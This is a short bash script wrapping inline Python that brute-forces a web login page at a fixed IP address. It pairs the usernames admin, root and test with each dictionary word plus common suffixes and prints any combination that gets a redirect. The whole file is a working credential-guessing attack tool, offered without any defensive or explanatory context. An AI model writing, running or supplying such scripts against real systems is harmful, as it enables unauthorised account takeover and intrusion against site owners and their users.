#!/bin/bash
python3 - http://198.51.100.108/login <<'PY'
import sys, itertools, requests
url = sys.argv[1]
s = requests.Session()
words = open("/usr/share/dict/words").read().split()
for user in ("admin", "root", "test"):
    for w, n in itertools.product(words, ("", "1", "123", "2024")):
        r = s.post(url, data={"username": user, "password": w + n}, allow_redirects=False)
        if r.status_code == 302:
            print("found", user, w + n)
            break
PY
